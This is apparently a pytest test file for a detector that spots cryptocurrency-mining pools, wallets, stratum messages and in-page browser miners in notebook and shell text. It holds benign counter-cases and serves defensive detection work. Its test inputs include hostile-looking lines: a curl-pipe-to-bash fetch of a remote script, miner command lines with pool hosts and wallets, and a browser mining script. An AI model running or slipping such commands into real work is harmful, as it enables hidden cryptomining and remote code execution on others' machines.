import pytest
from hypothesis import given
from hypothesis import strategies as st

from colonnade.detection.extract import extract
from colonnade.detection.features.feature import Collector, Kind
from colonnade.detection.features.mining import read_pool_text

MONERO = "4" + "AV7Z4MCBPEGWVDH8d" * 5 + "cspW6W6th"
WALLET = "R9xyz2ABCDEFGHJKLMNPQRSTUVWXYZabcd"


def kinds(source: str) -> set[Kind]:
    return {feature.kind for feature in extract(source)} & {Kind.POOL, Kind.WALLET}


@pytest.mark.parametrize(
    "command",
    [
        f"!./tool -l pool.example.io:9999 -u {WALLET}.worker1 -p x",
        f"!./tool --url=eth.example.io:2020 --user={WALLET}",
        f"!./tool -o a.example.io:3333 -w {WALLET}/rig",
        f"!./tool -o ssl://mining.example.io:443 -u KAS:{WALLET}.rig",
        f"!./tool -o rx.unmineable.example:1443 -u TRX:{WALLET}.rig#code-1 -k",
    ],
)
def test_a_pool_beside_a_wallet_is_seen_without_its_protocol(command: str):
    assert kinds(command) == {Kind.POOL, Kind.WALLET}


@pytest.mark.parametrize(
    "command",
    [
        "!curl -s https://a.example/go.sh | bash -s -- $wallet pool.example.io:10128 $(hostname)",
        "!docker run -d -e POOL=a.example.io:5555 -e WALLET=here -e THREADS=4 somebody/cache",
        f"!./tool --url 198.51.100.14:4444 --user {WALLET}.t4",
    ],
)
def test_a_pool_is_seen_by_its_place_or_its_variables(command: str):
    assert Kind.POOL in kinds(command)


def test_what_is_said_to_a_pool_and_a_page_that_mines_are_seen():
    assert kinds("s.send(f'JOB,{me},MEDIUM'.encode())") == {Kind.POOL}
    assert kinds("page = \"<script>var m = new Hive.Anonymous('key', {})</script>\"") == {Kind.POOL}


def test_a_pool_on_its_usual_port_needs_no_wallet():
    assert kinds("!./tool -o pool.example.io:3333 -u someone.rig -p x") == {Kind.POOL}


@pytest.mark.parametrize(
    "command",
    [
        "!psql -h db.pooler.example.io:6543 -u someone",
        "!curl -u someone:secret http://pool.example.io:3333/api",
        "!nc pool.example.io:3333",
        "!tool --user AVeryLongNameWithoutAnyFigures --host a.example.io:9999",
        "!rsync -u notes.txt b.example.io:backup",
    ],
)
def test_hosts_and_users_of_other_services_are_not_taken_for_it(command: str):
    assert not kinds(command)


def pools(source: str) -> set[str]:
    return {one.value for one in extract(source) if one.kind is Kind.POOL}


def test_settings_with_a_pool_and_a_wallet_are_seen_in_any_text():
    wallet = "0x52908400098527886E0F7030069857D2E4169EE7"
    text = f'%%writefile c.json\n{{"url": "pool.example.org:443", "user": "{wallet}"}}'
    assert pools(text) == {"settings"}
    assert pools(f"wallet = '{wallet}'\nhost = 'db.example.org:443'") == set()


def test_what_is_said_to_a_pool_is_seen():
    assert pools('s.send(b\'{"method": "mining.subscribe"}\')') == {"protocol"}
    assert pools("print('data mining.')") == set()


def test_a_miner_in_a_page_is_seen():
    page = "%%html\n<script>var c = new Client.Anonymous('key'); c.start()</script>"
    assert pools(page) == {"page"}
    assert pools("%%html\n<script src='https://example.org/chart.min.js'></script>") == set()


@given(st.text(max_size=300))
def test_any_text_can_be_read(text: str):
    read_pool_text(Collector(), text, 1, 1)


@pytest.mark.parametrize(
    "command",
    [
        "./node --mine --author 0x52908400098527886E0F7030069857D2E4169EE7",
        "./node -mine --rewards-address somebody",
        "digger --rpc $RPC --keypair id.json mine --cores 1",
        "./prove --pool tcp://zk.example.org:4430 --account me --worker t4",
        "./x -o {c['pool']} -u {c['who']} -a {c['how']}",
        "./x -o {place} -u {wallet}.t4 -a {how}",
    ],
)
def test_only_miners_are_told_these_together(command: str):
    assert pools(f"!{command}") >= {"told"}


@pytest.mark.parametrize(
    "command",
    [
        "geth --dev --mine --miner.etherbase 0x52908400098527886E0F7030069857D2E4169EE7",
        "geth --networkid 15 --mine --miner.etherbase 0x52908400098527886E0F7030069857D2E4169EE7",
        "python chain.py mine --wallet alice",
        "extract mine --input corpus.txt",
        "python extract.py --pool avg --account research --worker-name gpu0",
        "./x -o {out} -u {me} -a {how}",
    ],
)
def test_a_chain_of_ones_own_and_other_programs_are_not_told_so(command: str):
    assert pools(f"!{command}") == set()


POOL = "b'pool.example.org:3333'"


@pytest.mark.parametrize(
    "source",
    [
        f"library.begin({POOL}, b'{MONERO}+20000', 2)",
        f"threading.Thread(target=go, args=({POOL}, b'{MONERO}')).start()",
        f"who = '{WALLET}'\nm = engine.Miner({POOL}, who, threads=2)",
        f"host = {POOL}\nwho = '{WALLET}'",
        f"os.environ['A'] = {POOL}\nos.environ['B'] = '{WALLET}'",
        f"settings = {{'url': 'a.mining.example.org:443', 'user': '{WALLET}.one'}}",
    ],
)
def test_a_pool_beside_a_wallet_in_python_are_settings(source: str):
    assert Kind.POOL in kinds(source)


@pytest.mark.parametrize(
    "source",
    [
        f"connect('db.pool.example.org:5432', '{WALLET}')",
        f"connect('node.example.org:8545', '{WALLET}')",
        "Client('a.example.org:9999', '3f2a9c1b7d8e6f5a4c3b2a1d0e9f8c7b6a5d4e3f')",
        f"host = {POOL}\nif host:\n    who = '{WALLET}'",
        f"node = 'https://eth.example.org:8545'\nwho = '{WALLET}'",
    ],
)
def test_other_hosts_and_keys_beside_each_other_are_none(source: str):
    assert Kind.POOL not in kinds(source)


@pytest.mark.parametrize(
    "command",
    [
        "./rig --algo {a} --url {b} --user {c} --pass x",
        "./b -a {a} -o {b} -u {c} -p x",
        "./b -o 203.0.113.9:443 -u somebody -p x --tls",
        "./nb -coin {a} -pool {b} -wallet {c}",
        "./nb -algo {a} -proxy {b} -worker {c}",
    ],
)
def test_what_only_miners_are_told_is_enough(command: str):
    assert kinds(f"!{command}") == {Kind.POOL}
    assert kinds(f"import os\nos.system(f'{command}')") == {Kind.POOL}


@pytest.mark.parametrize(
    "command",
    [
        "rsync -a -o -u -p here/ there/",
        "./solve -a exact -o out.txt -u 5 -p 3",
        "mkdir -p a && ls -a && python -u b.py -o c",
        "python train.py --algo ppo --user me --url https://example.org",
        "python3 -m rllib -a PPO -o out -u me -p 3",
        "torchrun train.py --algo ppo --server a.example --user me --password x",
        "python features.py -pool max -workers 4",
    ],
)
def test_other_programs_have_these_letters_as_well(command: str):
    assert not kinds(f"!{command}")


def test_a_wallet_may_name_its_coin_and_carry_anything_behind_it():
    wallet = "kaspa:q" + "cjxjslnn8wy8uuhalen2v9e4qh7e7qmxx0dlw44k62kmwqqclwvykhfh0rj"
    assert kinds("!./b -w " + wallet + ".{n()} -p kas.example.net:3121") == {
        Kind.POOL,
        Kind.WALLET,
    }


def test_settings_may_be_written_by_a_shell():
    text = f'{{"url": "pool.example.org:4444", "user": "{WALLET}"}}'
    assert kinds(f"%%bash\ncat > a.json <<E\n{text}\nE\n./work -c a.json") == {Kind.POOL}
    assert not kinds(f"%%bash\ncat <<E\n{text}\nE")
